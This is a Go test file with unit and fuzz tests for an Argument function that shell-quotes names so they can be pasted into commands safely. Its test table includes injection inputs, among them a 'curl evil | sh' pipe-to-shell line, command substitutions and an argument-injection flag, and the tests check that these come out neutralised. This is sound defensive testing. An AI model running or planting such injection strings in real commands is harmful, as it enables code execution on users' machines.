package errtext

import (
	"os/exec"
	"strings"
	"testing"
)

func TestArgument(t *testing.T) {
	for in, want := range map[string]string{
		"member-1":                             "member-1",
		"admin@host":                           "admin@host",
		"arn:aws:eks:eu-west-1:1:cluster/prod": "arn:aws:eks:eu-west-1:1:cluster/prod",
		"region=eu,tier=gold":                  "region=eu,tier=gold",
		"":                                     "''",
		"my cluster":                           "'my cluster'",
		"it's":                                 `'it'\''s'`,
		"x; curl evil | sh":                    "'x; curl evil | sh'",
		"$(id)`id`":                            "'$(id)`id`'",
		"a\nb\x1b[2J":                          "'a b [2J'",
		"--server=https://evil":                "server=https://evil",
		"~/x":                                  "'~/x'",
		"-\n-server=x":                         "' -server=x'",
	} {
		if got := Argument(in); got != want {
			t.Errorf("%q: got %s, want %s", in, got, want)
		}
	}
	if got := Argument(strings.Repeat("'", 1<<20)); len(got) > 4*longestArgument+2 {
		t.Errorf("%d bytes", len(got))
	}
}

// A shell sees one word, which is the name, and does nothing else.
func FuzzArgument(f *testing.F) {
	for _, seed := range []string{"a b", "'", `\'`, "$(touch x)", "a\x00b", "--x", "*", "!!", "\u202e"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, word string) {
		shell, err := exec.LookPath("sh")
		if err != nil {
			t.Skip("there is no sh")
		}
		out, err := exec.CommandContext(t.Context(), shell, "-c", `printf '%s.' `+Argument(word)).Output()
		if want := strings.TrimLeft(Bounded(word, longestArgument), "-") + "."; err != nil || string(out) != want {
			t.Errorf("%q became %q (%v), want %q", word, out, err, want)
		}
	})
}
